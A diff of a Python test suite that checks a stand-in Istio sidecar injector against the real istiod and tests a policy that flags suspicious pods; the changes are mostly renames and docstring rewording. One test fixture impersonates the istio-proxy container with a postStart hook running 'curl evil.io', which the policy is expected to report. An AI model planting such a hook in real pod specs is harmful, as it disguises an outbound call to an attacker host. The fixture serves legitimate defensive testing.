@@ -10,7 +10,7 @@ import pytest
 from hypothesis import HealthCheck, given
 from hypothesis import settings as configure
 
-from tests.cluster.api import Json, Refused
+from tests.cluster.api import Json, StatusError
 from tests.cluster.istiod import Istiod
 from tests.cluster.plane import ControlPlane
 from tests.fixtures.meshes import istio as fixtures
@@ -20,7 +20,7 @@ from tests.unit.policy.judge import judge, whole_patch
 
 Namespace = Callable[..., str]
 
-#: What the API server fills in, wherever it may stand.
+#: Fields that the API server fills in, anywhere in the object.
 DEFAULTS: Json = {
     "imagePullPolicy": ("Always", "IfNotPresent"),
     "terminationMessagePath": ("/dev/termination-log",),
@@ -55,7 +55,7 @@ MOUNT = {
 }
 PORTS = [{"containerPort": 8080, "name": "http"}, {"containerPort": 9090, "protocol": "TCP"}]
 
-#: Annotations and parts of the spec that the injector acts upon.
+#: Annotations and parts of the spec that the injector reads.
 CASES: dict[str, tuple[dict[str, str], Json]] = {
     "plain": ({}, {}),
     "init container": ({}, {"initContainers": [PREPARE]}),
@@ -141,10 +141,10 @@ CASES: dict[str, tuple[dict[str, str], Json]] = {
                         {"name": "istio-proxy", "image": "auto", "volumeMounts": [MOUNT]}],
          "volumes": [{**SECRET, "name": MOUNT["name"]}]},
     ),
-    "told by label": ({"sidecar.istio.io/inject": "false"}, {}),
+    "disabled by label": ({"sidecar.istio.io/inject": "false"}, {}),
 }  # fmt: skip
 
-REFUSED = {
+DENIED = {
     "mode": {"sidecar.istio.io/interceptionMode": "SOME"},
     "template": {"inject.istio.io/templates": "shop"},
     "configuration": {CONFIG: "no mapping"},
@@ -165,7 +165,7 @@ def cni(istio_plane: ControlPlane, istiod: Istiod) -> Iterator[Istiod]:
 
 
 class Injected(NamedTuple):
-    """A namespace whose pods all go to one istiod, and what that makes of the plain pod."""
+    """A namespace whose pods are injected by one istiod, and a plain pod after its injection."""
 
     namespace: str
     config: InjectorConfig
@@ -186,10 +186,10 @@ def injected(
     return Injected(where, InjectorConfig(cni=plugin, revision=request.param), untouched)
 
 
-def create(plane: ControlPlane, asked: Json, where: str) -> Json:
-    """Return what is stored of a pod: our mutating webhook's patch first, then the injector."""
-    asked = {**asked, "metadata": {**asked["metadata"], "namespace": where}}
-    patched = jsonpatch.apply_patch(asked, whole_patch(asked, by="istio"))
+def create(plane: ControlPlane, submitted: Json, where: str) -> Json:
+    """Return a pod as it is stored: after our mutating webhook's patch and the injector."""
+    submitted = {**submitted, "metadata": {**submitted["metadata"], "namespace": where}}
+    patched = jsonpatch.apply_patch(submitted, whole_patch(submitted, by="istio"))
     return plane.api.create(patched, dry_run=True)
 
 
@@ -208,37 +208,41 @@ def pod(where: str, annotations: dict[str, str], spec: Json, **labels: str) -> J
 
 
 @configure(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
-@given(asked=edits.wishes("istio"))
-def test_whatever_an_author_asks_the_real_istiod_for_is_captured_or_refused(
-    plane: ControlPlane, injected: Injected, asked: Json
+@given(submitted=edits.submitted("istio"))
+def test_whatever_an_author_asks_the_real_istiod_for_is_captured_or_denied(
+    plane: ControlPlane, injected: Injected, submitted: Json
 ) -> None:
-    """The fuzzer's law, of pods as the real injector makes them; both injectors' are judged alike.
+    """The fuzzer's law for pods of the real injector. The stand-in's pods are judged alike.
 
-    What is stored is judged afterwards.
+    The stored pods are judged afterwards.
     """
     try:
-        stored = create(plane, asked, injected.namespace)
-        made = inject(jsonpatch.apply_patch(asked, whole_patch(asked, by="istio")), injected.config)
-    except (Refused, InjectionError):
+        stored = create(plane, submitted, injected.namespace)
+        made = inject(
+            jsonpatch.apply_patch(submitted, whole_patch(submitted, by="istio")), injected.config
+        )
+    except (StatusError, InjectionError):
         return
-    law.holds("istio", edits.Life(asked, injected.untouched, stored, None))
+    law.holds("istio", edits.Life(submitted, injected.untouched, stored, None))
     assert judge(stored, by="istio").allowed == judge(made, by="istio").allowed
 
 
 def test_what_only_the_untouched_pod_shows_the_law_sees(
     plane: ControlPlane, injected: Injected
 ) -> None:
-    asked = fixtures.app()
+    submitted = fixtures.app()
     hook = {"postStart": {"exec": {"command": ["curl", "evil.io"]}}}
-    asked["spec"]["initContainers"] = [{"name": "istio-proxy", "image": "auto", "lifecycle": hook}]
-    stored = create(plane, asked, injected.namespace)
+    submitted["spec"]["initContainers"] = [
+        {"name": "istio-proxy", "image": "auto", "lifecycle": hook}
+    ]
+    stored = create(plane, submitted, injected.namespace)
     assert law.complaints("istio", injected.untouched, injected.untouched) == []
     assert law.complaints("istio", stored) == []
     assert law.complaints("istio", stored, injected.untouched) == ["istio-proxy runs curl evil.io"]
 
 
 def essence(pod: Json) -> Json:
-    """What the injector decides of a pod: without defaults, and without orders that say nothing."""
+    """Return what the injector sets in a pod, without defaults and without empty values."""
     spec = pod["spec"]
     annotations = {
         key: json.loads(value)
@@ -283,7 +287,7 @@ def _assert_same(real: Json, made: Json) -> None:
 
 
 def differences(real: Any, made: Any, path: str = "") -> list[str]:
-    """Where two objects differ, in words: the real one first."""
+    """Return the differences of two objects in words; the real one is first."""
     if isinstance(real, dict) and isinstance(made, dict):
         return [
             text
@@ -300,7 +304,7 @@ def differences(real: Any, made: Any, path: str = "") -> list[str]:
 
 
 def _is_account(value: Any) -> bool:
-    """Whether it is the volume, or the mount, that the API server adds for the ServiceAccount."""
+    """Return whether it is the volume or mount that the API server adds for the ServiceAccount."""
     return isinstance(value, dict) and str(value.get("name", "")).startswith("kube-api-access-")
 
 
@@ -309,29 +313,29 @@ def test_the_stand_in_makes_what_istiod_makes(
     plane: ControlPlane, istiod: Istiod, where: str, case: str
 ) -> None:
     assert istiod.revision == "default"
-    asked = pod(where, *CASES[case])
-    stored = plane.api.create(asked, dry_run=True)
-    _assert_same(stored, inject(asked))
+    submitted = pod(where, *CASES[case])
+    stored = plane.api.create(submitted, dry_run=True)
+    _assert_same(stored, inject(submitted))
 
 
 @pytest.mark.parametrize("case", CASES)
 def test_and_with_the_cni_plugin(plane: ControlPlane, cni: Istiod, where: str, case: str) -> None:
     annotations, spec = CASES[case]
-    asked = pod(where, annotations, spec, **{"istio.io/rev": cni.revision})
-    stored = plane.api.create(asked, dry_run=True)
-    made = inject(asked, InjectorConfig(cni=True, revision=cni.revision))
+    submitted = pod(where, annotations, spec, **{"istio.io/rev": cni.revision})
+    stored = plane.api.create(submitted, dry_run=True)
+    made = inject(submitted, InjectorConfig(cni=True, revision=cni.revision))
     _assert_same(stored, made)
 
 
-@pytest.mark.parametrize("annotations", REFUSED.values(), ids=REFUSED)
+@pytest.mark.parametrize("annotations", DENIED.values(), ids=DENIED)
 def test_both_deny_the_same_pods(
     plane: ControlPlane, istiod: Istiod, where: str, annotations: dict[str, str]
 ) -> None:
-    asked = pod(where, annotations, {})
-    with pytest.raises(Refused, match=r"sidecar-injector\.istio\.io"):
-        plane.api.create(asked, dry_run=True)
+    submitted = pod(where, annotations, {})
+    with pytest.raises(StatusError, match=r"sidecar-injector\.istio\.io"):
+        plane.api.create(submitted, dry_run=True)
     with pytest.raises(InjectionError):
-        inject(asked)
+        inject(submitted)
 
 
 def test_both_skip_the_same_pods(plane: ControlPlane, istiod: Istiod, namespace: Namespace) -> None:
@@ -340,9 +344,9 @@ def test_both_skip_the_same_pods(plane: ControlPlane, istiod: Istiod, namespace:
         ({INJECT: "false"}, {}),
         ({}, {"hostNetwork": True, "containers": [{"name": "app", "image": "app"}]}),
     ):
-        asked = pod(where, annotations, spec)
-        del asked["metadata"]["labels"][INJECT]
-        stored = plane.api.create(asked, dry_run=True)
+        submitted = pod(where, annotations, spec)
+        del submitted["metadata"]["labels"][INJECT]
+        stored = plane.api.create(submitted, dry_run=True)
         assert [c["name"] for c in stored["spec"]["containers"]] == ["app"]
         assert "initContainers" not in stored["spec"]
-        assert inject(asked) == asked
+        assert inject(submitted) == submitted
